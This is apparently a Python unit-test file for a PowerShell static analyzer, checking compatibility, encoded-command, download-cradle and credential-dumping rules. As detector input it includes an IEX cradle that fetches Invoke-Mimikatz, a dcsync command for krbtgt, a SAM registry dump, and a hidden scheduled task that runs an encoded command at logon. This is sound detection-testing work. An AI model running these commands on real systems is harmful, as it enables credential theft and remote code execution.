"""Fixes the blind5k corpus led to (an independent corpus written from PSScriptAnalyzer's sources and ATT&CK):
each case fires where that corpus expects it, and a near miss does not."""

from __future__ import annotations

from tests.unit.analyzer.corpus_cases import analyze, hits, lines_of


def test_start_sleep_duration_is_a_powershell_7_3_parameter() -> None:
    result = analyze("""
        Start-Sleep -Duration $this.Delay
        sleep -Duration ([timespan]::FromSeconds(2))
        Start-Sleep -Seconds 2
        Start-Sleep -Milliseconds 500
    """)
    assert lines_of(result, "PSUseCompatibleCommands") == [1, 2]
    assert {f.detail for f in hits(result, "PSUseCompatibleCommands")} == {"PSCompatibilityPowerShell7Parameter"}
    assert "7.3" in hits(result, "PSUseCompatibleCommands")[0].message


def test_an_encoded_command_line_string_whose_payload_is_base64_made_at_run_time() -> None:
    result = analyze("""
        $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
        schtasks.exe /create /tn "Updater" /tr "powershell.exe -w hidden -enc $enc" /sc onlogon /f
        $a = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -EncodedCommand ${enc}"
    """)
    assert lines_of(result, "PSEncodedCommand") == [2, 3]


def test_an_encoded_option_in_text_with_another_variable_or_after_file_is_no_encoded_command() -> None:
    result = analyze("""
        $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($cmd))
        $environment = Get-Content -Path .\\env.txt
        schtasks.exe /create /tn "Report" /tr "powershell.exe -NoProfile -e $environment" /sc daily /f
        schtasks.exe /create /tn "Report" /tr "powershell.exe -File C:\\jobs\\r.ps1 -e $enc" /sc daily /f
        Write-Warning "powershell.exe -enc $enc was refused by policy"
        Write-Output $enc
    """)
    assert lines_of(result, "PSEncodedCommand") == []


def test_mimikatz_fetched_from_a_url_and_run_is_reported_where_it_runs() -> None:
    result = analyze("""
        IEX (New-Object Net.WebClient).DownloadString('https://raw.example.com/tools/Invoke-Mimikatz.ps1')
        Invoke-Mimikatz -Command '"lsadump::dcsync /domain:corp.local /user:krbtgt"'
    """)
    assert lines_of(result, "PSCredentialDumping") == [2]
    assert lines_of(result, "PSDownloadCradle") == [1]


def test_mimikatz_only_fetched_or_named_outside_a_url_is_still_reported_there() -> None:
    only_fetched = analyze("""
        IEX (New-Object Net.WebClient).DownloadString('https://raw.example.com/tools/Invoke-Mimikatz.ps1')
        Get-Process | Out-File C:\\temp\\p.txt
    """)
    assert lines_of(only_fetched, "PSCredentialDumping") == [1]
    saved = analyze("""
        Invoke-WebRequest -Uri 'https://raw.example.com/mimikatz.zip' -OutFile C:\\temp\\mimikatz.zip
        reg save HKLM\\SAM C:\\temp\\sam.hiv
    """)
    assert lines_of(saved, "PSCredentialDumping") == [1, 2]  # the saved file's name is no URL


def test_the_obsolete_cmdlet_note_is_send_mail_message_and_no_other_cmdlet() -> None:
    # docs/analysis.md documents exactly this list; a corpus labelling another cmdlet obsolete should fail here first
    result = analyze("""
        Send-MailMessage -To 'ops@contoso.com' -From 'noreply@contoso.com' -Subject 'x' -SmtpServer 'smtp01'
        Get-WmiObject -Class Win32_Service
        Get-EventLog -LogName System -Newest 5
        New-WebServiceProxy -Uri 'http://svc/ws.asmx'
        Invoke-WebRequest -Uri 'https://contoso.com' -UseBasicParsing
    """)
    assert lines_of(result, "PSCompatibilityObsoleteCmdlet") == [1]
    assert hits(result, "PSCompatibilityObsoleteCmdlet")[0].category == "compatibility"
